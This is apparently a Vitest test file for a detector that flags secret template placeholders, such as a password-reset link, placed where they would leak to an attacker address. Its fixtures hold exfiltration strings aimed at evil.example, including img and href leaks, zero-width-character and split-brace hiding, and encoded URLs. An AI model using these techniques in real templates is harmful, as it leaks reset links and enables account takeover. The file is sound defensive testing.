import { describe, expect, it } from 'vitest';
import { findSecretInAddress, findWrappedSecret, findWrappedSecretIn } from './secretPlaces.ts';

const link = '{{setPasswordUrl}}';
const evil = 'https://evil.example/?u=';

describe('a secret placeholder in a plain text', () => {
  it.each([
    ['directly after an address', `${evil}${link}`],
    ['after a bracket in an address', `${evil}(${link})`],
    ['after a word', `Lien:${link}`],
    ['after a zero-width space', `${evil}\u200b${link}`],
    ['after a soft hyphen', `${evil}\u00ad${link}`],
    ['after a word joiner', `${evil}\u2060${link}`],
    ['after a byte order mark', `${evil}\ufeff${link}`],
    ['after a blank letter', `${evil}\u3164${link}`],
    ['after a blank that is none of ASCII, behind an address', `${evil}\u202f${link}`],
    ['after a vertical tab', `${evil}\u000b${link}`],
    ['after another placeholder', `{{examTitle}}${link}`],
    ['before an address', `${link}.evil.example`],
    ['before an address of a mailbox', `${link}@evil.example`],
    ['before a word', `${link}suite`],
    ['in angle brackets that begin with an address', `<${evil} ${link}>`],
    ['in such brackets over two lines', `<URL:${evil}\n${link}\n>`],
    ['in such quotation marks', `"www.evil.example/ ${link}"`],
    ['in such brackets, with its own', `<${evil} <${link}>>`],
    ['behind more brackets than anybody writes', `${'('.repeat(500)}${link}`],
  ])('is wrapped %s', (_where, text) => {
    expect(findWrappedSecret(`Bonjour ${text}`)).toBe('setPasswordUrl');
  });

  it.each([
    `Lien : ${link}`,
    `Lien\u00a0: ${link}.`,
    `«\u00a0${link}\u00a0»`,
    `(${link}), puis`,
    `Choisir <${link}>`,
    `"Important": ${link}`,
    `Voir https://uni.example.ca/aide\n${link}\nMerci`,
    `- ${link}`,
    '{{loginUrl}}?x=1',
  ])('stands alone in %j', (text) => {
    expect(findWrappedSecret(text)).toBeNull();
  });
});

describe('a secret placeholder in HTML', () => {
  it.each([
    ['after an inline tag', `<p>${evil}<b>${link}</b></p>`],
    ['after an empty tag', `<p>${evil}<span style="color:red"></span>${link}</p>`],
    ['with braces that formatting cuts', `<p>${evil}{<b></b>{setPasswordUrl}}</p>`],
    ['as a link without words, whose address plain text shows', `<p>${evil}<a href="${link}"> </a></p>`],
    ['as a link that shows itself', `<p>${evil}<a href="${link}">${link}</a></p>`],
    ['as the words of another link', `<p><a href="https://evil.example/">${link}</a></p>`],
    [
      'as the words of another link that nothing closes',
      `<p><a href="https://evil.example/">Voir ${link}</p>`,
    ],
    ['in an address', `<p><a href="${evil}${link}">a</a></p>`],
    ['in a cell without a table', `${evil}<td>${link}</td>`],
    ['between cells, from where programs move it', `${evil}<table><tr><td>a</td>${link}</tr></table>`],
    ['after an entity', `<p>&lt;${evil} ${link}&gt;</p>`],
    ['after an entity of a format character', `<p>${evil}&#8203;${link}</p>`],
  ])('is wrapped %s', (_where, html) => {
    expect(findWrappedSecretIn(html)).toBe('setPasswordUrl');
  });

  it.each([
    `<p>Voir ${evil}</p><p>${link}</p>`,
    `<p>a<br />${link}<br>b</p>`,
    `<table><tbody><tr><td>a</td><td>${link}</td></tr></tbody></table>`,
    `<ul><li>a</li><li><a href="${link}">Choisir</a></li></ul>`,
    `<p>Voici<a href="${link}">le lien</a>.</p>`,
    `<p><a href="${link}">${link}</a></p>`,
    `<p>Mot de passe&nbsp;: <strong>{{newPassword}}</strong></p>`,
  ])('stands alone in %s', (html) => {
    expect(findWrappedSecretIn(html)).toBeNull();
  });

  it('is found in time, however often it stands there', () => {
    const began = performance.now();
    findWrappedSecretIn(`&quot;${`a ${link} `.repeat(9000)}`);
    findWrappedSecretIn(`${'<a>('.repeat(40_000)}${link}`);
    findWrappedSecret(`${link}${' '.repeat(190_000)}${'"'.repeat(9000)}`);
    findWrappedSecretIn(`${link} ${'&gt;'.repeat(199_000)}`);
    findWrappedSecretIn('&gt;&amp;'.repeat(100_000));
    expect(performance.now() - began).toBeLessThan(500);
  });

  it.each([
    ['in brackets within others', `<p>&lt;&lt;&gt;&gt;&lt;${evil} ${link}&gt;</p>`],
    ['in brackets after an entity of an entity', `<p>&amp;lt; &lt;${evil} ${link}&gt;</p>`],
    ['with its name cut by formatting', `<p>${evil}{<i></i>{set<b></b>PasswordUrl}}</p>`],
  ])('is wrapped %s', (_where, html) => {
    expect(findWrappedSecretIn(html)).toBe('setPasswordUrl');
    expect(findWrappedSecretIn(`<p>&amp;lt;${evil} ${link} &amp;gt;</p>`)).toBeNull();
  });
});

it.each([
  `<a href="${evil}${link}">a</a>`,
  "<a href='https://evil.example/%7B%7BsetPasswordUrl%7D%7D'>a</a>",
  '<a HREF = https://evil.example/&#123;&#123;setPasswordUrl&#125;&#125;>a</a>',
  `<img src="https://evil.example/${link}">`,
])('a secret in the address %s is found before it is removed', (html) => {
  expect(findSecretInAddress(html)).toBe('setPasswordUrl');
  expect(
    findSecretInAddress(`<a href="${link}">a</a> <a href="%7B%7BsetPasswordUrl%7D%7D">b</a>`),
  ).toBeNull();
});
